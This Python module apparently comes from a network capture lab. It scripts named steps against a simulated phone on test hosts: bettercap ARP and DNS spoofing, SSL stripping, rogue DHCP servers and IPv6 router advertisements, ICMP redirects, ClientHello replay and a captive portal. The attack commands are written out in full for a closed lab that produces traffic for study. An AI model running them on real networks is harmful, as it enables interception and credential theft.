"""What happens in a case while the capture runs, by name.

Every step is done by a real program or by the real packets of one; scapy builds the two that no
packaged program sends.
"""

import dataclasses
import os
import pathlib
import sys
import time
from collections.abc import Callable

import network as net
import shop

LAB = pathlib.Path(__file__).resolve().parent
TOKEN = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1LTEwMDEifQ.c2lnbmF0dXJlLW9mLXRoZS1sYWI"


@dataclasses.dataclass
class Stage:
    """Where a step plays: the case, its network, a folder for files, and how a client is run."""

    case: object
    network: net.Network
    folder: pathlib.Path
    run_client: Callable

    def phone(self, *words, seconds=30):
        return self.network.inside(net.PHONE, *words, check=False, timeout=seconds)


def perform(stage, step):
    """`client N`, a step of shop.py, or one of the table."""
    if step.startswith("client "):
        stage.run_client(stage.case.clients[int(step.split()[1])])
        return
    if shop.parsed(step):
        shop.perform(stage, *shop.parsed(step))
        return
    STEPS[step][1](stage)


def clients(stage):
    for client in stage.case.clients:
        stage.run_client(client)


def redirect(stage):
    stage.network.redirect(8443)


def curl(stage, *words):
    stage.phone("curl", "--silent", "--output", "/dev/null", "--max-time", "10", *words)


def setup_page(stage):
    proxy = f"http://{net.GATEWAY_IP}:8443"
    for path in ("", "cert/pem"):
        curl(stage, "--proxy", proxy, f"http://mitm.it/{path}")


def portal(stage):
    """The access point sends the phone's port 80 to its own portal until somebody logs in."""
    pages = LAB / "origins" / "portal.py"
    stage.network.start(net.ACCESS_POINT, sys.executable, pages, net.GATEWAY_IP)
    stage.network.wait_for(net.ACCESS_POINT, 8080)
    rule = ("-i", net.PHONE_SIDE, "-p", "tcp", "--dport", "80", "-j", "REDIRECT")
    where = ("iptables", "-t", "nat")
    chain = ("PREROUTING", *rule, "--to-ports", "8080")
    stage.network.inside(net.ACCESS_POINT, *where, "-A", *chain)
    check = "http://connectivity.shop.test/generate_204"
    curl(stage, check)
    curl(stage, "--location", check)
    stage.network.inside(net.ACCESS_POINT, *where, "-D", *chain)
    curl(stage, check)


def cleartext_requests(stage):
    agent = ("--user-agent", "okhttp/4.12.0")
    json = ("--header", "Content-Type: application/json; charset=utf-8")
    login = '{"user":"ada@shop.test","password":"not-a-secret-of-anybody"}'
    curl(stage, *agent, *json, "--data", login, "http://api.shop.test/v1/login")
    bearer = ("--header", f"Authorization: Bearer {TOKEN}")
    curl(stage, *agent, *bearer, "http://api.shop.test/v1/orders")


def proxied_cleartext(stage):
    proxy = ("--proxy", f"http://{net.GATEWAY_IP}:8443", "--user-agent", "okhttp/4.12.0")
    bearer = ("--header", f"Authorization: Bearer {TOKEN}")
    curl(stage, *proxy, *bearer, "http://api.shop.test/v1/orders")


def cleartext_http2(stage):
    bearer = ("--header", f"Authorization: Bearer {TOKEN}", "--user-agent", "shop/4.2 curl")
    for how in ("--http2-prior-knowledge", "--http2"):
        curl(stage, how, *bearer, "http://api.shop.test/v1/orders")


def bettercap(stage, *commands):
    """bettercap at the guest; returns once its modules run."""
    stage.network.inside(net.GUEST, "sysctl", "-q", "-w", "net.ipv4.ip_forward=1")
    # bettercap spoofs whom it finds in its own neighbour table.
    for neighbour in (net.PHONE_IP, net.GATEWAY_IP):
        stage.network.inside(net.GUEST, "ping", "-c", "1", neighbour, check=False)
    stage.network.start(
        net.GUEST,
        "bettercap",
        "-no-colors",
        "-iface",
        "wlan0",
        "-gateway-override",
        net.GATEWAY_IP,
        "-eval",
        "; ".join((f"set arp.spoof.targets {net.PHONE_IP}", *commands, "arp.spoof on")),
        env={"HOME": str(stage.folder)},
    )
    time.sleep(8)


def meet_the_gateway(stage):
    """What every phone has done before an attacker comes: it knows the gateway, and names."""
    stage.phone("ping", "-c", "2", "-i", "0.3", net.GATEWAY_IP)
    stage.phone("dig", "+short", "api.shop.test")


def arp_spoof(stage):
    bettercap(stage)


def dns_spoof(stage):
    hosts = f"set dns.spoof.domains www.shop.test; set dns.spoof.address {net.GUEST_IP}"
    bettercap(stage, hosts, "dns.spoof on")
    stage.phone("dig", "+short", "+tries=1", "www.shop.test")


def ssl_strip(stage):
    curl(stage, "--cacert", stage.folder.parent / "pki/public-root.pem", "https://www.shop.test/")
    bettercap(stage, "set http.proxy.sslstrip true", "http.proxy on")
    for _ in range(2):
        curl(stage, "http://www.shop.test/")


def dhcp(stage):
    """Two servers, each with itself as router and resolver; the phone asks twice."""
    for namespace, own, first in (
        (net.ACCESS_POINT, net.GATEWAY_IP, "192.168.50.100"),
        (net.GUEST, net.GUEST_IP, "192.168.50.200"),
    ):
        stage.network.start(
            namespace,
            "dnsmasq",
            "--keep-in-foreground",
            "--conf-file=/dev/null",
            "--port=0",
            "--interface=wlan0",
            f"--dhcp-range={first},{first[:-1]}9,1h",
            "--no-ping",
            f"--dhcp-option=option:router,{own}",
            f"--dhcp-option=option:dns-server,{own}",
            f"--dhcp-leasefile={stage.folder / namespace}.leases",
            "--pid-file=",
            "--user=root",
        )
        stage.network.wait_for(namespace, 67, kind="-u")
        for _ in range(2):
            # No script: the phone keeps its address, the messages are what counts.
            words = ("udhcpc", "-i", "wlan0", "-n", "-q", "-f", "-t", "3", "-T", "1")
            stage.phone(*words, "-s", "/bin/true")
            time.sleep(1)


def router_advertisements(stage):
    """The access point advertises itself; then the guest does so, with its own resolver."""
    for namespace, prefix, seconds in (
        (net.ACCESS_POINT, "2001:db8:50::", 12),
        (net.GUEST, "2001:db8:66::", 16),
    ):
        stage.network.inside(namespace, "ip", "addr", "add", f"{prefix}1/64", "dev", "wlan0")
        stage.network.inside(namespace, "sysctl", "-q", "-w", "net.ipv6.conf.all.forwarding=1")
        # Until duplicate address detection is over, the address cannot be advertised.
        time.sleep(3)
        stage.network.start(
            namespace,
            "dnsmasq",
            "--keep-in-foreground",
            "--conf-file=/dev/null",
            "--port=0",
            "--interface=wlan0",
            "--enable-ra",
            f"--dhcp-range={prefix},ra-only,64,1h",
            f"--dhcp-option=option6:dns-server,[{prefix}1]",
            f"--ra-param=wlan0,{'high,' if namespace == net.GUEST else ''}5",
            f"--dhcp-leasefile={stage.folder / namespace}.leases6",
            "--pid-file=",
            "--user=root",
        )
        time.sleep(seconds)


def icmp_redirect(stage):
    scapy(stage, net.GUEST, "icmp_redirect.py", net.PHONE_IP, net.GATEWAY_IP, net.GUEST_IP)
    stage.phone("ping", "-c", "2", "-i", "0.3", net.ORIGIN_IP)


def scapy(stage, namespace, script, *words):
    python = pathlib.Path(os.environ["LAB_TOOLS"]) / "venv/bin/python"
    stage.network.inside(namespace, python, LAB / "attacks" / script, *words, timeout=30)


def replay_hello(stage):
    """Sends what the first client said first, byte for byte, on a connection of its own."""
    # Within ten seconds it could be one attempt of the same client.
    time.sleep(11)
    raw = stage.folder / f"raw-{net.PHONE_SIDE}.pcap"
    scapy(stage, net.PHONE, "replay_hello.py", raw, net.ORIGIN_IP)


STEPS = {
    "arp-spoof": ("bettercap's `arp.spoof` at a guest of the same link", arp_spoof),
    "cleartext-http2": ("curl, as an app that speaks HTTP/2 without TLS", cleartext_http2),
    "cleartext-requests": ("curl, as an app that speaks plain HTTP", cleartext_requests),
    "clients": ("", clients),
    "dhcp": ("two DHCP servers (dnsmasq), and udhcpc asks", dhcp),
    "dns-spoof": ("bettercap's `arp.spoof` and `dns.spoof` at a guest of the same link", dns_spoof),
    "icmp-redirect": ("redirects built by scapy at a guest of the same link", icmp_redirect),
    "meet-the-gateway": ("", meet_the_gateway),
    "portal": ("a captive portal at the access point", portal),
    "proxied-cleartext": ("curl, as an app that speaks plain HTTP to the proxy", proxied_cleartext),
    "redirect": ("from here on the access point redirects the phone's port 443", redirect),
    "replay-hello": ("the ClientHello's bytes are sent again on another connection", replay_hello),
    "router-advertisements": (
        "router advertisements of the access point, then of a guest (dnsmasq)",
        router_advertisements,
    ),
    "setup-page": ("curl fetches mitmproxy's set-up page and its CA through it", setup_page),
    "ssl-strip": ("bettercap's `http.proxy` with `sslstrip` at a guest of the same link", ssl_strip),
}
